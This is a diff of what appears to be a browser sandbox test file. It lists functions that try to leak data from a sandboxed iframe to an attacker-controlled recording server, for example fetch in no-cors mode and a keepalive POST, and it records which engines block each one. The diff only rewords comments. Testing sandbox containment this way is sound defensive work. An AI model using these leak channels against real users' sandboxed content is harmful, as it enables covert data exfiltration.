@@ -1,7 +1,7 @@
-// Ways out for data. Each is a function that runs in the frame; `to` names a stranger's server that hears whatever comes.
+// Ways to leak data. Each is a function that runs in the frame; `to` names an attacker's server that records everything.
 
-/** Each must reach the stranger from a frame that is sandboxed and nothing else, or it would prove nothing. `INERT` names the
- * engines in which it does not. */
+/** Each must reach the attacker's server from a plain sandboxed frame, or it would prove nothing. `INERT` names the engines in which it
+ * does not. */
 export const leaks = {
   fetch: (to) => fetch(to.http, { mode: 'no-cors' }),
   'fetch with keepalive': (to) => fetch(to.http, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'data' }),
@@ -158,7 +158,7 @@ export const leaks = {
   },
 };
 
-/** A sandboxed frame cannot do these either way; they are tried all the same. */
+/** Leaks that the sandbox alone prevents. */
 export const hopeless = {
   'a fresh document': (to) => {
     const frame = document.createElement('iframe');
@@ -197,11 +197,11 @@ export const hopeless = {
 };
 
 const PRECONNECTS = Object.keys(leaks).filter((name) => name.includes('preconnect'));
-/** What reaches no server from a naive frame, by engine. */
+/** Leaks that reach no server from a plain sandboxed frame, by engine. */
 export const INERT = {
-  // Chromium under test connects to nothing ahead of time, without `--disable-background-networking` either.
+  // Chromium under test never preconnects, even without `--disable-background-networking`.
   chromium: PRECONNECTS,
-  // Its STUN does not go to a loopback address, and no tab is opened by a script's click.
+  // Firefox sends no STUN to loopback addresses, and a script's click opens no tab.
   firefox: ['WebRTC', 'a control-click from a script on a link outside of the document'],
   // WebKitGTK is built without WebRTC, and frames of opaque origins have no navigation.
   webkit: ['WebRTC', 'navigation.navigate'],
